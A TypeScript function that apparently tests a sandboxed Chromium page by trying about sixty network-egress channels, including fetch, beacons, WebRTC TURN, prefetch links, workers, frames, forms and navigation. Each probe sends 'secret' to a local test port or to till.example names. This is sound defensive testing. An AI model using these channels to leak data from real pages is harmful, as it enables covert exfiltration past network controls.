/**
 * The ways out of Chromium that a hostile page tries, towards a port of this machine and towards names. Runs in the page
 * and uses nothing of this file. A way whose outcome cannot be seen from inside counts as waiting.
 */
export async function tryEveryWay(port: number) {
  const GIVE_UP_MS = 1000
  const at = (way: string, scheme = 'http') => `${scheme}://127.0.0.1:${port}/${way}`
  const named = (way: string, scheme = 'https') => `${scheme}://${way}.till.example/`
  const add = <Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    attributes: Record<string, string>,
  ): HTMLElementTagNameMap[Name] => {
    const element = document.createElement(name)
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
    document.body.append(element)
    return element
  }
  const loaded = (name: keyof HTMLElementTagNameMap, attributes: Record<string, string>) => () =>
    new Promise((resolve, reject) => {
      const element = add(name, attributes)
      element.addEventListener('load', resolve)
      element.addEventListener('error', reject)
    })
  const link = (rel: string) => () =>
    Promise.race(
      [at(rel), named(rel)].map((href) => loaded('link', { rel, href, as: 'image', crossorigin: '' })()),
    )
  const peer = (url: string) => async () => {
    const iceServers = [{ urls: url, username: 'secret', credential: 'secret' }]
    const connection = new RTCPeerConnection({ iceServers })
    connection.createDataChannel('secret')
    const gathered = new Promise<void>((resolve, reject) => {
      connection.onicecandidate = ({ candidate }) => (candidate ? resolve() : reject())
    })
    await connection.setLocalDescription(await connection.createOffer())
    await gathered
  }
  const page = (html: string, type = 'text/html') => URL.createObjectURL(new Blob([html], { type }))
  const opened = (target: EventTarget) =>
    new Promise((resolve, reject) => {
      for (const name of ['open', 'load', 'message']) target.addEventListener(name, resolve)
      target.addEventListener('error', reject)
    })
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(at('fetch')),
    'fetch without CORS': () => fetch(at('fetch'), { mode: 'no-cors', keepalive: true }),
    'fetch by name': () => fetch(named('fetch'), { mode: 'no-cors' }),
    'XML request': () => {
      const request = new XMLHttpRequest()
      request.open('POST', at('xhr'))
      request.send('secret')
      return opened(request)
    },
    beacon: () => void navigator.sendBeacon(at('beacon'), 'secret'),
    'web socket': () => opened(new WebSocket(at('socket', 'ws'))),
    events: () => opened(new EventSource(at('events'))),
    'web transport': () => new WebTransport(at('transport', 'https')).ready,
    'TURN over UDP': peer(`turn:127.0.0.1:${port}?transport=udp`),
    'TURN over TCP': peer(`turn:127.0.0.1:${port}?transport=tcp`),
    'TURN over TLS': peer(`turns:127.0.0.1:${port}?transport=tcp`),
    STUN: peer(`stun:127.0.0.1:${port}`),
    'TURN by name': peer('turn:turn.till.example?transport=udp'),
    'TURN over TCP by name': peer('turn:turn-tcp.till.example?transport=tcp'),
    'STUN by name': peer('stun:stun.till.example'),
    'DNS prefetch': link('dns-prefetch'),
    preconnect: link('preconnect'),
    prefetch: link('prefetch'),
    prerender: link('prerender'),
    preload: link('preload'),
    modulepreload: link('modulepreload'),
    'style sheet': link('stylesheet'),
    icon: link('icon'),
    manifest: link('manifest'),
    image: loaded('img', { src: at('image') }),
    'image by name': loaded('img', { src: named('image') }),
    video: loaded('video', { src: at('video'), poster: at('poster') }),
    audio: loaded('audio', { src: at('audio') }),
    'SVG image': () => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
      const image = document.createElementNS(svg.namespaceURI, 'image') as SVGImageElement
      image.setAttribute('href', at('svg'))
      svg.append(image)
      document.body.append(svg)
      return opened(image)
    },
    script: loaded('script', { src: at('script') }),
    module: () => import(at('module')),
    font: () => new FontFace('foreign', `url(${at('font')})`).load(),
    'CSS import': () => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(`body { background: url(${at('css')}) }`)
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
    },
    'style of an element': () => {
      document.body.style.backgroundImage = `url(${at('style')})`
    },
    worker: () => opened(new Worker(at('worker'))),
    'worker of a blob': () =>
      opened(new Worker(page(`importScripts('${at('import')}'); postMessage(1)`, 'text/javascript'))),
    'shared worker': () => opened(new SharedWorker(at('shared-worker')).port),
    'service worker': () => navigator.serviceWorker.register(at('service-worker')),
    worklet: () => new AudioContext().audioWorklet.addModule(at('worklet')),
    'CSS worklet': () => Reflect.get(CSS, 'paintWorklet').addModule(at('paint-worklet')),
    // The load event of a refused frame comes too, so these are left to the listener and the net log.
    frame: () => void add('iframe', { src: at('frame') }),
    'frame of a text': () =>
      void add('iframe', { srcdoc: `<img src="${at('text')}"><link rel="preconnect" href="${at('text')}">` }),
    'frame of a blob': () => void add('iframe', { src: page(`<img src="${at('blob')}">`) }),
    'frame of data': () => void add('iframe', { src: `data:text/html,<img src="${at('data')}">` }),
    object: () => void add('object', { data: at('object') }),
    embed: () => void add('embed', { src: at('embed') }),
    webview: () => {
      const view = document.createElement('webview')
      view.setAttribute('src', at('webview'))
      document.body.append(view)
    },
    ping: () => add('a', { href: '#', ping: at('ping'), target: '_top' }).click(),
    'link to a window': () => add('a', { href: at('target'), target: '_blank' }).click(),
    'form to a window': () =>
      add('form', { action: at('form-target'), method: 'post', target: '_blank' }).submit(),
    'window.open': () => void window.open(at('open')),
    'blank window': () =>
      window
        .open('about:blank')
        ?.document.body.append(Object.assign(new Image(), { src: at('blank-window') })),
    'speculation rules': () => {
      const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' })
      rules.text = JSON.stringify({ prefetch: [{ urls: [at('speculation')] }] })
      document.body.append(rules)
    },
    notification: () => void new Notification('secret', { icon: at('notification') }),
    'picture of the media': () => {
      navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: at('artwork') }] })
    },
    payment: () =>
      new PaymentRequest([{ supportedMethods: at('payment', 'https') }], {
        total: { label: 'secret', amount: { currency: 'MNT', value: '1' } },
      }).show(),
    identity: () =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: at('identity', 'https'), clientId: 'secret' }] },
      } as CredentialRequestOptions),
    'document type': () =>
      void new DOMParser().parseFromString(`<!DOCTYPE x SYSTEM "${at('type')}"><x/>`, 'text/xml'),
  }
  // Begun after the others, because a page that starts to leave breaks off its requests.
  const departures: typeof ways = {
    download: () => add('a', { href: at('download'), download: 'secret', target: '_top' }).click(),
    form: () => add('form', { action: at('form'), method: 'post', target: '_top' }).submit(),
    refresh: () => {
      const refresh = document.createElement('meta')
      refresh.httpEquiv = 'refresh'
      refresh.content = `0;url=${at('refresh')}`
      window.top?.document.head.append(refresh)
    },
    'source of a page': () => window.top?.location.assign(`view-source:${at('source')}`),
    'page of a blob': () => window.top?.location.assign(page(`<img src="${at('blob-page')}">`)),
    navigation: () => window.top?.location.assign(at('navigation')),
    'navigation by name': () => window.top?.location.assign(named('navigation')),
  }
  const outcomeOf = async (go: () => unknown): Promise<string> => {
    try {
      return await Promise.race([
        Promise.resolve(go()).then((value) => (value === undefined ? 'waiting' : 'answered')),
        new Promise<string>((resolve) => setTimeout(resolve, GIVE_UP_MS, 'waiting')),
      ])
    } catch {
      return 'refused'
    }
  }
  const tryAll = (some: typeof ways) =>
    Promise.all(Object.entries(some).map(async ([way, go]) => ({ way, outcome: await outcomeOf(go) })))
  return [...(await tryAll(ways)), ...(await tryAll(departures))]
}
